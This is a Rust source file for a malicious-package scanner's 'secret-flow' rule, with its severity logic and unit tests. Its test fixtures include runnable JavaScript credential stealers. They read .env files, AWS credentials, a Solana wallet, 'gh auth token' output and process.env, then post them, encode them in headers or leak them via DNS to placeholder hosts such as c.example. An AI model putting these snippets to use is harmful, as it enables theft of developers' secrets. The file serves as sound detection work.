//! Rule `secret-flow`.

use crate::flow::Source;
use crate::model::Severity;
use crate::package::Package;
use crate::rules::{Emitter, code_files, is_doc_path};

crate::declare_rule! {
    /// A secret flows into what leaves the machine: the whole environment, a credential file
    /// (`.env`, `.npmrc`, SSH keys, cloud or git credentials, wallets, histories, password
    /// vaults, FTP sessions, other ecosystems' publish tokens, AI assistants' keys), a secret
    /// store (browser or app storage, keychains, an Electron session's cookies), a cloud
    /// credential endpoint's answer or a credential helper's output (`gh auth token`) reaches the URL, headers or body of a network request, a DNS
    /// name or an uploading command (`curl -d`), through variables, object literals, templates,
    /// `JSON.stringify`/base64 wrappers and local function parameters (see the flow pass of the
    /// engine). `critical` in code that runs on install, on `require` or as a declared command;
    /// `high` elsewhere; `medium` in bundles (minified, or over 200 KB: names are tracked
    /// without scopes). One secret-named variable (`process.env.X_TOKEN`) sent in a body is
    /// `medium` (a client may post its own key); in an `Authorization` header it is no flow. A
    /// request to the address picked from the configuration by an address-named key (`const {
    /// API_URL } = env`) carries nothing through its URL.
    id: "secret-flow",
    category: Data,
    severity: High,
    capability: Some(crate::model::Capability::Environment),
    title: "sends secrets over the network",
    incident: "dotenv and GitHub-token stealers (2023-2025) that post .env contents or `gh auth token` output",
    case_file: "index.js",
    flag: ["var _fs = require('fs'), _https = require('https'); const _ref = ['.env', '.aws/credentials', 'serviceAccountKey.json']; const found = []; const walk = (dir) => { for (const d of _fs.readdirSync(dir, { withFileTypes: true })) { const p = dir + '/' + d.name; if (d.isDirectory()) walk(p); else if (_ref.some((n) => p.endsWith(n))) found.push([p, _fs.readFileSync(p, 'utf8')]); } }; walk(process.cwd()); _https.request({ hostname: 'c.example', method: 'POST' }).end(JSON.stringify(found))",
           "const fs = require('fs'), os = require('os'), path = require('path'), https = require('https'); function stores() { const h = os.homedir(); return [path.join(h, '.config/solana/id.json'), path.join(h, 'notes.txt')] } const out = {}; for (const p of stores()) { try { out[p] = fs.readFileSync(p, 'utf8') } catch (e) {} } https.request({ host: 'c.example', method: 'POST' }).end(JSON.stringify(out))",
           "const fs = require('fs'); const https = require('https'); function send(d) { https.request({ host: 'h.example', headers: { 'x-d': Buffer.from(JSON.stringify(d)).toString('base64') } }).end() } const cfg = parse(fs.readFileSync('.env', 'utf8')); send(cfg)",
           "const t = require('child_process').execSync('gh auth token').toString(); fetch('https://t.example/c', { method: 'POST', body: JSON.stringify({ t }) })",
           "const info = { e: process.env }; const s = JSON.stringify(info); require('dns').lookup(Buffer.from(s).toString('hex').slice(0, 60) + '.x.example', () => {})"],
    pass: ["var fs = require('fs'), https = require('https'); const exts = ['.md', '.txt']; const out = []; for (const p of files) { if (exts.some((e) => p.endsWith(e))) out.push(fs.readFileSync(p, 'utf8')); } https.request({ hostname: 'docs.example', method: 'POST' }).end(JSON.stringify(out))",
           "const fs = require('fs'), path = require('path'), https = require('https'); function assets() { return [path.join(__dirname, 'logo.svg'), path.join(__dirname, 'font.woff')] } const out = {}; for (const p of assets()) out[p] = fs.readFileSync(p, 'utf8'); https.request({ host: 'cdn.example', method: 'POST' }).end(JSON.stringify(out))",
           "const key = process.env.ACME_API_KEY; fetch('https://api.acme.example/v1', { headers: { Authorization: `Bearer ${key}` } })",
           "const fs = require('fs'); const cfg = fs.readFileSync('.env', 'utf8'); module.exports = cfg; fetch('https://docs.example/ping')",
           "const { spawn } = require('child_process'); spawn('node', ['build.js'], { env: process.env }); fetch(url)"],
}

fn check(pkg: &Package, out: &mut Emitter) {
    for f in code_files(pkg) {
        if is_doc_path(&f.path) {
            continue;
        }
        let Some(js) = &f.js else { continue };
        let Some(flow) = js.flows.iter().max_by_key(|f| f.source) else {
            continue;
        };
        let reachable =
            pkg.is_install_file(f) || pkg.is_entry_file(f) || pkg.bin_files.contains(&f.path);
        // Names are tracked without scopes: in a bundle (minified names like `e` reused in every
        // function) two variables of one name are often different things, so a flow there is
        // weak evidence (@tybys/wasm-util 0.10.5's minified build).
        let bundle = f.minified || f.text.len() > 200 * 1024;
        // A device's own store (browser storage, cookies, React Native storage) sent where the
        // caller says is a sync or backup feature; sent to a fixed address it is theft.
        let client_store = matches!(flow.what.as_str(), "app storage" | "browser storage");
        let sev = match flow.source {
            Source::Secrets if bundle => Severity::Medium,
            Source::Secrets
                if client_store && !super::client_data_theft::fixed_destination(f, flow.off) =>
            {
                Severity::Medium
            }
            Source::Secrets if reachable => Severity::Critical,
            Source::Secrets => Severity::High,
            Source::Token if pkg.is_install_file(f) => Severity::High,
            Source::Token => Severity::Medium,
            _ => Severity::Low,
        };
        out.hit_sev(
            sev,
            pkg,
            f,
            flow.off,
            format!("{} flows into {}", flow.what, flow.sink),
        );
    }
}

#[cfg(test)]
mod tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    const FLOW: &str = "const t = require('child_process').execSync('gh auth token').toString(); fetch('https://t.example/c', { method: 'POST', body: JSON.stringify({ t }) });";

    #[test]
    fn credential_flow_in_entry_code_is_critical() {
        let hits = run(&super::RULE, "index.js", FLOW);
        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical));
    }

    const PRE: &str = "const https = require('https'); const keys = Object.keys(process.env).filter((k) => /TOKEN/.test(k)); const env = {}; for (const k of keys) env[k] = process.env[k]; https.request({ host: 'h.example', method: 'POST' }).end(JSON.stringify({ env }));";

    #[test]
    fn a_file_put_into_node_options_as_a_preload_is_loaded_code() {
        let set = format!(
            "=== package.json\n{{\"name\":\"a\",\"version\":\"1.0.0\",\"main\":\"index.js\"}}\n=== index.js\nconst shim = require('path').join(__dirname, 'pre.cjs'); process.env.NODE_OPTIONS = `--require ${{shim}}`;\n=== pre.cjs\n{PRE}"
        );
        let hits = run(&super::RULE, "index.js", &set);
        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Critical));
        // Named in entry code without a preload option: a file like any other.
        let named = set.replace("--require ", "");
        let hits = run(&super::RULE, "index.js", &named);
        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::High));
    }

    const ENV_CLIENT: &str = "const fs = require('fs');\nasync function readEnv() { const e = require('util').parseEnv(fs.readFileSync('.env', 'utf8')); return { API_URL: process.env.API_URL || e.API_URL || 'https://api.example.com/graphql', API_TOKEN: process.env.API_TOKEN || e.API_TOKEN }; }\nasync function load(q) { const { API_URL, API_TOKEN } = await readEnv(); return fetch(API_URL, { method: 'POST', headers: { Authorization: `Token ${API_TOKEN}` }, body: JSON.stringify({ q }) }); }\nmodule.exports = load;\n";

    /// @changesets/get-github-info 1.0.1: the API address and token come from the environment or
    /// the project's `.env`; the request goes to that address with the token as its
    /// credential. Putting the `.env` values in the body is still a flow.
    #[test]
    fn a_request_to_the_address_the_env_file_names_is_no_flow() {
        assert!(run(&super::RULE, "index.js", ENV_CLIENT).is_empty());
        let body = ENV_CLIENT.replace(
            "JSON.stringify({ q })",
            "JSON.stringify({ q, cfg: await readEnv() })",
        );
        let hits = run(&super::RULE, "index.js", &body);
        assert!(
            hits.iter().any(|h| h.severity >= Severity::High),
            "{hits:?}"
        );
        let url = ENV_CLIENT.replace(
            "fetch(API_URL,",
            "fetch('https://c.example/?d=' + API_TOKEN,",
        );
        let hits = run(&super::RULE, "index.js", &url);
        assert!(
            hits.iter().any(|h| h.severity >= Severity::High),
            "{hits:?}"
        );
    }

    #[test]
    fn credential_flow_in_a_big_bundle_is_only_medium() {
        let filler = "function f(a) { return a + 1; }\n".repeat(7000);
        let hits = run(&super::RULE, "index.js", &format!("{filler}{FLOW}"));
        assert_eq!(hits.first().map(|h| h.severity), Some(Severity::Medium));
    }
}

#[cfg(test)]
mod chain_tests {
    use crate::model::Severity;
    use crate::rules::testing::run;

    /// Listener setters return the request: `request(o).on('error', f).end(body)` sends the
    /// body like `request(o).end(body)`; the same chain ending with a body of its own is no flow.
    #[test]
    fn a_body_ended_after_chained_listeners_is_sent() {
        let src = "var https = require('https');\nfunction tick(res) { if (process.env.CI) { var e = JSON.stringify(process.env); var b = Buffer.from(e).toString('base64'); https.request({ hostname: 'h.example', method: 'PUT' }).once('socket', function () {}).on('error', function () {}).end(b) } }\nmodule.exports = tick;\n";
        let hits = run(&super::RULE, "index.js", src);
        assert_eq!(
            hits.first().map(|h| h.severity),
            Some(Severity::Critical),
            "{hits:?}"
        );
        let own = src.replace(".end(b)", ".end(JSON.stringify({ v: 1 }))");
        assert!(run(&super::RULE, "index.js", &own).is_empty());
    }
}
